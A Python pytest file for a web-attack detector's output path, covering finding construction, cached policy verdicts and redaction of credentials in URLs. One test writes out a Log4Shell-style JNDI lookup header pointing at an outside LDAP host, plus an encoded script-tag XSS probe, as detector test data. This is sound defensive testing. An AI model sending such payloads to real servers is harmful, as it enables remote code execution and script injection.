"""web.attack_patterns' output path: findings built past the dataclass constructor, the request
policy's remembered hits, and verdicts shared between rows that still show each row's own URL."""

from __future__ import annotations

import json
from dataclasses import FrozenInstanceError, fields
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from tests.detectors.web.test_attack_patterns import ALL_POSITIVES, NEAR_MISSES
from tests.detectors.web.test_policy import CASES

from watchhouse.core.events import Dataset, EventBatch
from watchhouse.core.findings import Finding
from watchhouse.detectors.web.attack_patterns import _POLICY_COLUMNS, WebAttackDetector
from watchhouse.detectors.web.policy import RequestPolicy
from watchhouse.testing.factories import make_batch

T0 = datetime(2026, 3, 2, 9, tzinfo=UTC)
#: every policy case, positive and near miss, as rows
POLICY_ROWS = [row for _, positive, near_miss in CASES for row in (positive, near_miss)]


def _sample_rows() -> list[dict[str, Any]]:
    return [s.batch.to_polars().row(0, named=True) for s in ALL_POSITIVES + NEAR_MISSES]


def test_findings_equal_what_the_validating_constructor_builds() -> None:
    """Findings are made without ``Finding(...)``; each must be the finding that constructor
    makes from the same values, field for field and in field order, and stay frozen."""
    batch = EventBatch.concat([s.batch for s in ALL_POSITIVES + NEAR_MISSES])
    findings = WebAttackDetector(paranoia_level=4).detect(batch)
    assert len(findings) >= len(ALL_POSITIVES)
    names = [f.name for f in fields(Finding)]
    for finding in findings:
        assert type(finding) is Finding
        again = Finding(**{name: getattr(finding, name) for name in names})
        assert finding == again and repr(finding) == repr(again)
        assert list(vars(finding)) == names and finding.details == again.details
        assert finding.first_seen.tzinfo is not None and finding.evidence[0].line is not None
        with pytest.raises(FrozenInstanceError):
            finding.title = "changed"  # type: ignore[misc]


def test_the_policy_reads_only_the_columns_its_hits_are_remembered_by() -> None:
    """Policy hits are remembered per ``_POLICY_COLUMNS`` values: were a check to read another
    column, two rows differing there alone would wrongly share a result."""

    read: set[str] = set()

    class Recording(dict[str, Any]):
        def get(self, key: str, default: Any = None) -> Any:
            read.add(key)
            return super().get(key, default)

        def __getitem__(self, key: str) -> Any:
            read.add(key)
            return super().__getitem__(key)

    batch = make_batch(Dataset.HTTP, POLICY_ROWS + _sample_rows())
    rows = batch.to_polars().rows(named=True)
    fired = 0
    for level in (1, 2, 3, 4):
        policy = RequestPolicy(level)
        for row in rows:
            fired += bool(policy.hits(Recording(row)))
    assert fired >= len(CASES)
    assert read <= set(_POLICY_COLUMNS)


def test_repeated_policy_rows_are_judged_alike_from_memory() -> None:
    """Rows the policy fires on, seen again (another address, another line), are reported as a
    fresh detector reports them, and their findings share no mutable details."""
    rows = [
        dict(row, **{"source.ip": f"198.51.100.{i % 5}", "@timestamp": T0 + timedelta(seconds=i)})
        for i, row in enumerate(POLICY_ROWS * 3)
    ]
    batch = make_batch(Dataset.HTTP, rows, path="policy.log", first_line=1)
    seasoned = WebAttackDetector(paranoia_level=4)
    first, again = seasoned.detect(batch), seasoned.detect(batch)
    fresh = [
        WebAttackDetector(paranoia_level=4).detect(make_batch(Dataset.HTTP, [row], path="policy.log", first_line=i + 1))
        for i, row in enumerate(rows)
    ]
    expected = [f for found in fresh for f in found]
    assert len(first) >= 3 * len(CASES)
    assert any(r.startswith("WH-POL-") for f in first for r in f.details["rules"])
    assert first == again == expected
    assert [f.details for f in first] == [f.details for f in again] == [f.details for f in expected]
    assert [f.explanation for f in first] == [f.explanation for f in expected]
    twins = [f for f in first if f.details["rules"] == first[0].details["rules"]]
    assert len(twins) >= 3
    twins[0].details["hits"][0]["decoding_steps"].append("changed")
    twins[0].details["classes"].append("changed")
    assert "changed" not in twins[1].details["hits"][0]["decoding_steps"]
    assert "changed" not in twins[1].details["classes"]


def test_rows_sharing_a_verdict_show_their_own_url_redacted() -> None:
    """Two requests carrying one header payload share a verdict (their URLs were not inspected),
    yet each finding shows its own URL, credentials hidden; rows whose URL carried the payload
    show that URL, remembered with the verdict."""
    login = "/login?user=ann&password=hunter2"
    headers = json.dumps({"X-Api-Version": "${jndi:ldap://203.0.113.5/a}"})
    rows = [
        {"source.ip": "203.0.113.7", "url.original": login, "http.request.headers": headers},
        {"source.ip": "203.0.113.8", "url.original": "/api/items?page=2", "http.request.headers": headers},
        {"source.ip": "203.0.113.9", "url.original": "/s?q=%3Cscript%3Ealert(1)&token=abc123"},
        {"source.ip": "203.0.113.10", "url.original": "/s?q=%3Cscript%3Ealert(1)&token=abc123"},
    ]
    detector = WebAttackDetector()
    findings = detector.detect(make_batch(Dataset.HTTP, rows))
    assert [f.details["url_excerpt"] for f in findings] == [
        "/login?user=ann&password=[redacted]",
        "/api/items?page=2",
        "/s?q=%3Cscript%3Ealert(1)&token=[redacted]",
        "/s?q=%3Cscript%3Ealert(1)&token=[redacted]",
    ]
    assert findings[0].details["rules"] == findings[1].details["rules"]
    assert all("hunter2" not in f.explanation and "abc123" not in f.explanation for f in findings)
    assert findings[1].explanation.startswith("request /api/items?page=2 from 203.0.113.8: header")
    assert findings[3].title.endswith("from 203.0.113.10")
    assert findings[2].subject.value == "203.0.113.9" and findings[3].subject.value == "203.0.113.10"
